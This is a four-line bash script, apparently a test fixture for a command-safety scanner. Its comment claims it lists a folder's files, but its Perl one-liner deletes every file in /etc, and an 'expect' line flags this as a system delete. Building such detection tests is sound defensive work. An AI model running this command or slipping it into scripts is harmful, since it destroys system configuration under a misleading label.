#!/bin/bash
# shows: all files of a folder, by Perl
# expect: system-delete at line 4
perl -e 'unlink glob "/etc/*"'
